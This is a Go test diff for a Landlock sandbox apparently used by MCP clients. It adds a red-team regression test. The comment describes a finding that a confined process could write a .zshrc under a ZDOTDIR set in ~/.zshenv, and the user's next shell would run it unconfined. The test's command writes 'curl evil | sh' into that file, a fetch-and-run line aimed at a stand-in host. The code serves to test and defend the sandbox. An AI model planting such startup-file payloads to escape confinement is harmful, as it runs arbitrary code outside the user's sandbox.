@@ -79,3 +79,73 @@ func TestRedteamRTB_StartupPlaceNotMadeYet(t *testing.T) {
 		t.Errorf("a project beside them: %v", err)
 	}
 }
+
+// ZDOTDIR is set by convention in ~/.zshenv, and a server started from a
+// desktop, a launcher or an MCP client's own process does not have it in
+// its environment: ZDOTDIR=~/dotfiles/zsh there left ~/dotfiles writable
+// for a .zshrc that the user's next shell ran unconfined (red team rtb).
+// What ~/.zshenv sets ZDOTDIR to is now a startup place too, and a value
+// that cannot be read refuses the default.
+func TestRedteamRTB_ZdotdirFromZshenv(t *testing.T) {
+	requireLandlock(t)
+	h := newHome(t)
+	t.Setenv("HOME", h.dir)
+	t.Setenv("TMPDIR", t.TempDir())
+	for _, v := range []string{"ZDOTDIR", "BASH_ENV", "ENV", "XDG_CONFIG_HOME"} {
+		t.Setenv(v, "")
+	}
+	dotfiles := filepath.Join(h.dir, "dotfiles")
+	proj := filepath.Join(h.dir, "src", "proj")
+	for _, d := range []string{filepath.Join(dotfiles, "zsh"), proj} {
+		if err := os.MkdirAll(d, 0o700); err != nil {
+			t.Fatal(err)
+		}
+	}
+	zshenv := func(src string) {
+		t.Helper()
+		if err := os.WriteFile(filepath.Join(h.dir, ".zshenv"), []byte(src), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	run := func(dir string) error {
+		t.Helper()
+		cmd, err := confine.Command(context.Background(), h.p, &confine.CommandOptions{Dir: dir}, "sh", "-c", "echo 'curl evil | sh' > .zshrc")
+		if err != nil {
+			return err
+		}
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("%s: %v\n%s", dir, err, out)
+		}
+		return nil
+	}
+	for _, src := range []string{
+		`export ZDOTDIR="$HOME/dotfiles/zsh"` + "\n",
+		"ZDOTDIR=~/dotfiles/zsh\n",
+		"if [[ -d ~/dotfiles ]]; then\n  export ZDOTDIR=${HOME}/dotfiles/zsh\nfi\n",
+		"typeset -x ZDOTDIR=" + dotfiles + "/zsh\n",
+		"export ZDOTDIR=$(cat ~/.zdot)\n",
+		": ${ZDOTDIR:=$HOME/dotfiles/zsh}\n",
+		"export ZDOTDIR=$DOTS/zsh\n",
+	} {
+		zshenv(src)
+		if err := run(dotfiles); !errors.Is(err, confine.ErrWritableHome) {
+			t.Errorf("~/.zshenv %q, Dir ~/dotfiles: want ErrWritableHome, got %v", src, err)
+		}
+	}
+	if _, err := os.Stat(filepath.Join(dotfiles, ".zshrc")); err == nil {
+		t.Error("a .zshrc was left in ~/dotfiles")
+	}
+
+	// Near misses: a project beside ZDOTDIR, a ZDOTDIR in a hidden
+	// directory, a .zshenv without one.
+	for _, src := range []string{
+		`export ZDOTDIR="$HOME/dotfiles/zsh"` + "\n",
+		`export ZDOTDIR="${XDG_CONFIG_HOME:-$HOME/.config}/zsh"` + "\n",
+		"export EDITOR=vim\n[ -f ${ZDOTDIR:-$HOME}/.zshrc.local ] && . ${ZDOTDIR:-$HOME}/.zshrc.local\n",
+	} {
+		zshenv(src)
+		if err := run(proj); err != nil {
+			t.Errorf("~/.zshenv %q, Dir ~/src/proj: %v", src, err)
+		}
+	}
+}
